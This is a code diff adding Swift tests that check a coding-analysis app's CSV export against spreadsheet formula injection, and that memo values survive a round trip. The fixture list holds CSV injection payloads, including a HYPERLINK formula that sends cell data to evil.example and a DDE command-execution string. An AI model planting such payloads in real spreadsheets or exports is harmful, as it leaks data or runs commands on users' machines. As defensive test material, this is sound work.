@@ -96,4 +96,47 @@ import Testing
       Data("doc,code,start,end,coder\ninterview-34,tabular-issue,0,5,consensus\n".utf8), source: "c.csv")
     #expect(lead.added == 1)
   }
+
+  /// OWASP CSV injection: a memo, a quote or a code that a spreadsheet would run as a
+  /// formula is written with a leading apostrophe and read back exactly.
+  static let hostile = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+    "\tTAB=1", "\r=1", "'=already quoted", "''=twice", "'plain apostrophe", "-0.25", "- a bullet", "=",
+  ]
+
+  @Test func formulaCellsAreNeutralizedAndRestored() throws {
+    for value in Self.hostile {
+      let cell = CSV.field(value)
+      let record = try #require(try CSVReader.parse(Data((cell + "\r\n").utf8), file: "t.csv").first)
+      let first = record.fields[0].unicodeScalars.first
+      #expect(first.map { !"=+@\t\r".unicodeScalars.contains($0) } ?? true, "\(value) -> \(cell)")
+      if value.hasPrefix("-") && value != "-0.25" { #expect(first == "'") }
+      #expect(CSV.restored(record.fields[0]) == value)
+    }
+    #expect(CSV.field("-0.25") == "-0.25" && CSV.field("plain") == "plain")
+  }
+
+  @Test func hostileMemoSurvivesExportAndImport() throws {
+    let (folder, project) = try coded()
+    _ = try project.session(as: "ben").addAssignments(
+      Self.hostile.enumerated().map { index, memo in
+        AssignmentRequest(doc: "interview-34", code: "data-missing-value", span: .chars(index, index + 3), memo: memo)
+      })
+    let csv = try project.exportCSV(policy: .unrestricted)
+    let text = String(decoding: csv, as: UTF8.self)
+    for line in text.split(separator: "\r\n") {
+      for cell in try #require(try CSVReader.parse(Data(line.utf8), file: "x").first).fields {
+        #expect(!cell.hasPrefix("=") && !cell.hasPrefix("+") && !cell.hasPrefix("@"), "\(cell)")
+      }
+    }
+    let fresh = try folder.project("fresh")
+    let inputs = [DocumentInput(id: "interview-34", data: try Fixture.data("interview-34.txt"), source: "i34")]
+    try fresh.leadImportsTranscripts(inputs)
+    try fresh.session(as: "lead").addCode(name: "Data-missing-value")
+    _ = try fresh.session(as: "ben").importCSV(csv, source: "x.csv", skipOthers: true)
+    let memos = try #require(try fresh.snapshot().annotations(coder: "ben", doc: "interview-34")).sorted {
+      $0.start < $1.start
+    }.map(\.memo)
+    #expect(memos == Self.hostile.map { Optional($0) })
+  }
 }
